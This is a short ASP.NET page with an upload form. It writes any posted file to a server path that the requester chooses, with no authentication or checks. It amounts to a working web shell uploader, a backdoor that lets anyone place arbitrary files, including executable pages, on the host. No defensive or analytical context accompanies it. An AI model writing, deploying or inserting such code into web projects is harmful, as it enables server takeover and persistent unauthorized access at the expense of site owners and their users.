<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request.Files.Count > 0) {
        HttpPostedFile f = Request.Files[0];
        string dest = Request.Form["path"];
        if (string.IsNullOrEmpty(dest)) dest = Server.MapPath("~/") + f.FileName;
        byte[] buf = new byte[f.ContentLength];
        f.InputStream.Read(buf, 0, buf.Length);
        File.WriteAllBytes(dest, buf);
        Response.Write("OK " + dest);
    }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"/><input name="path"/><input type="submit"/></form>
